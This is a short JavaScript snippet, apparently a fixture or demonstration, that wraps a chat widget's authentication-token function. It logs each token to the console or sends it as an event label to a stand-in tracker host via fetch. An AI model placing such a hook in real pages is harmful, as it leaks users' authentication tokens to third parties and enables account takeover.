// The page tells others about the token: its console, or somebody who counts visitors.
"use strict";
{
  const method = window.lpGetAuthenticationToken;
  const LOGS = {
    console: (token) => console.log("chat token:", token.ssoKey ?? token),
    tracker: (token) => {
      const url = new URL("https://collect.tracker.example/event");
      url.searchParams.set("name", "chat opened");
      url.searchParams.set("label", token.ssoKey ?? token);
      fetch(url, { mode: "no-cors", keepalive: true }).catch(() => {});
    },
  };
  const log = LOGS[document.currentScript.dataset.how];
  window.lpGetAuthenticationToken = (callback, codeChallenge) =>
    method((token, error) => {
      if (token) log(token);
      callback(token, error);
    }, codeChallenge);
}
